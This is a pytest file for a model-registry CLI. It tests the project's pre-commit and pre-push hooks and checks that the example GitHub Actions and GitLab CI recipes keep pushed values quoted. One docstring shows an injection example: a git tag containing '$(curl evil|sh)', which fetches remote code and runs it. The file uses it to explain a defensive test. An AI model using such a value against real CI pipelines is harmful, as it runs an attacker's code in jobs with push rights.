"""The hook and CI surface: the pre-commit hook this project publishes, the example
pre-push hook, and the CI examples' modelreg commands."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import click
import pytest
import yaml

from modelreg import Registry
from modelreg.cli import cli as root_command

from .conftest import FileMaker, git

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
# The tests isolate HOME; pre-commit's pip may still reuse the machine's wheel cache.
PIP_CACHE = os.environ.get("PIP_CACHE_DIR") or str(Path.home() / ".cache" / "pip")


def _env(extra: dict[str, str] | None = None) -> dict[str, str]:
    env = dict(os.environ)
    env["PATH"] = f"{BIN}{os.pathsep}{env.get('PATH', '')}"
    env.update(extra or {})
    return env


def _break_manifest(root: Path) -> None:
    manifest = root / "models" / "m" / "model.yaml"
    manifest.write_text(manifest.read_text() + "colour: red\n")


@pytest.mark.slow
def test_the_published_pre_commit_hook_runs_modelreg_check(
    registry: Registry, files: FileMaker, tmp_path: Path
) -> None:
    if git(ROOT, "status", "--porcelain", "--", ".pre-commit-hooks.yaml").strip():
        pytest.fail(".pre-commit-hooks.yaml has uncommitted changes: commit them first")
    head = git(ROOT, "rev-parse", "HEAD").strip()
    registry.register("m", [files()])
    root = registry.root
    (root / ".pre-commit-config.yaml").write_text(
        yaml.safe_dump(
            {"repos": [{"repo": str(ROOT), "rev": head, "hooks": [{"id": "modelreg-check"}]}]}
        )
    )
    git(root, "add", ".pre-commit-config.yaml")
    git(root, "commit", "-qm", "use modelreg's hook")
    env = _env({"PRE_COMMIT_HOME": str(tmp_path / "pre-commit"), "PIP_CACHE_DIR": PIP_CACHE})
    command = [str(BIN / "pre-commit"), "run", "modelreg-check", "--all-files"]

    good = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True, check=False)
    assert good.returncode == 0, good.stdout + good.stderr
    assert "modelreg check" in good.stdout and "Passed" in good.stdout

    _break_manifest(root)
    bad = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True, check=False)
    assert bad.returncode == 1, bad.stdout + bad.stderr
    assert "Failed" in bad.stdout
    assert "models/m/model.yaml:colour: unknown key" in bad.stdout


def test_the_example_pre_push_hook_refuses_a_broken_manifest(
    registry: Registry, files: FileMaker, tmp_path: Path
) -> None:
    bare = tmp_path / "shared.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    root = registry.root
    git(root, "remote", "add", "origin", str(bare))
    shutil.copy(ROOT / "examples" / "hooks" / "pre-push", root / ".git" / "hooks" / "pre-push")
    registry.register("m", [files()])
    _break_manifest(root)
    git(root, "commit", "-qam", "a hand edit")

    push = ["git", "-C", str(root), "push", "-q", "origin", "main"]
    refused = subprocess.run(push, env=_env(), capture_output=True, text=True, check=False)
    assert refused.returncode != 0
    assert "models/m/model.yaml:colour: unknown key" in refused.stdout + refused.stderr
    assert "push refused" in refused.stderr
    assert git(bare, "for-each-ref").strip() == ""  # nothing reached the remote

    manifest = root / "models" / "m" / "model.yaml"
    manifest.write_text(manifest.read_text().replace("colour: red\n", ""))
    git(root, "commit", "-qam", "undo the hand edit")
    accepted = subprocess.run(push, env=_env(), capture_output=True, text=True, check=False)
    assert accepted.returncode == 0, accepted.stderr
    assert git(bare, "rev-parse", "main") == git(root, "rev-parse", "main")


def _modelreg_commands(text: str) -> list[list[str]]:
    """Every `modelreg ...` command in a CI file, with CI placeholders made concrete."""
    text = re.sub(r"\$\{\{[^}]*\}\}", "fraud-detector@v1.0.0", text)
    text = re.sub(r"\$\{?[A-Z_]+\}?", "fraud-detector@v1.0.0", text)
    commands = []
    for line in text.splitlines():
        line = line.strip().removeprefix("- ").removeprefix("run: ").strip()
        if line.startswith("modelreg "):
            commands.append(shlex.split(line)[1:])
    return commands


@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml"])
def test_ci_examples_are_valid_yaml_with_valid_modelreg_commands(name: str) -> None:
    text = (ROOT / "examples" / "ci" / name).read_text()
    yaml.safe_load(text)
    commands = _modelreg_commands(text)
    verbs = {c[0] for c in commands}
    assert {"check", "promote", "get"} <= verbs, verbs
    assert any(c[0] == "promote" and "--push" in c for c in commands)
    assert any(c[0] == "get" and c[1].endswith("#production") for c in commands)
    assert isinstance(root_command, click.Group)
    for args in commands:
        sub = root_command.commands.get(args[0])
        assert sub is not None, args
        with sub.make_context(args[0], list(args[1:])):
            pass  # every option parses, every required argument is there


def test_pre_commit_hooks_file_declares_modelreg_check() -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    [hook] = hooks
    assert (hook["id"], hook["entry"], hook["pass_filenames"]) == (
        "modelreg-check",
        "modelreg check",
        False,
    )
    assert re.search(hook["files"], "models/team/fraud/model.yaml")
    assert re.search(hook["files"], ".modelreg.yaml")
    assert not re.search(hook["files"], "src/train.py")


def _run_scripts(node: object) -> list[str]:
    """Every `run:` script in a GitHub Actions workflow."""
    if isinstance(node, dict):
        found = [node["run"]] if isinstance(node.get("run"), str) else []
        return found + [s for value in node.values() for s in _run_scripts(value)]
    if isinstance(node, list):
        return [s for value in node for s in _run_scripts(value)]
    return []


def test_github_recipe_keeps_pushed_and_typed_values_out_of_scripts() -> None:
    """A tag named `m@v1.0.0$(curl evil|sh)` is a legal git tag: pasted into `run:` as
    ${{ github.ref_name }} it would run in a job that can push. Such values reach the
    shell only through `env:` and quoted variables."""
    workflow = yaml.safe_load((ROOT / "examples" / "ci" / "github-actions.yml").read_text())
    scripts = _run_scripts(workflow)
    assert len(scripts) >= 6, scripts
    for script in scripts:
        assert "${{" not in script, script
        # Every variable a script expands is double-quoted (no word splitting or globbing).
        for line in script.splitlines():
            unquoted = re.sub(r'"[^"]*"', "", line)
            assert "$" not in unquoted, line


def test_gitlab_recipe_quotes_every_pushed_or_typed_value() -> None:
    config = yaml.safe_load((ROOT / "examples" / "ci" / "gitlab-ci.yml").read_text())
    lines = [
        line for job in config.values() if isinstance(job, dict) for line in job.get("script", [])
    ]
    assert any("$CI_COMMIT_TAG" in line for line in lines)
    for line in lines:
        unquoted = re.sub(r'"[^"]*"', "", line)
        assert "$" not in unquoted, line
